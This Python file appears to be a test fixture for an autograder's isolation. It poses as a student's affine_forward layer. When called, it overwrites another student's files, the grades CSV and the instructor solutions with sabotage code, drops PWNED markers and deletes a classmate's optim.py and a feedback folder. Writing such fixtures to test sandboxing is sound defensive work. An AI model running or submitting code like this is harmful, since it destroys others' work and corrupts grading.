# target: layers.affine_forward | expect: mismatch | needs: namespaces
"""Overwrite another student's submission, the output folder and the solutions; delete what it can."""
import os
import shutil

import numpy as np

TARGETS = ["__CLASS__/honest/layers.py", "__CLASS__/honest/activations.py", "__OUT__/grades.csv",
           "__OUT__/canary.txt", "__REPO__/solutions/layers.py", "__REPO__/reference/layers.py"]


def affine_forward(x, w, b):
    for path in TARGETS:
        try:
            with open(path, "w") as f:
                f.write("def affine_forward(x, w, b):\n    raise RuntimeError('sabotaged')\n")
        except OSError:
            pass
    for path in ("__CLASS__/PWNED-write_others_files", "__OUT__/PWNED-write_others_files",
                 "__REPO__/PWNED-write_others_files"):
        try:
            open(path, "w").write("pwned")
        except OSError:
            pass
    for path in ("__CLASS__/honest/optim.py", "__OUT__/feedback"):
        try:
            os.remove(path)
        except OSError:
            pass
        shutil.rmtree(path, ignore_errors=True)
    return np.zeros((x.shape[0], w.shape[1])), None
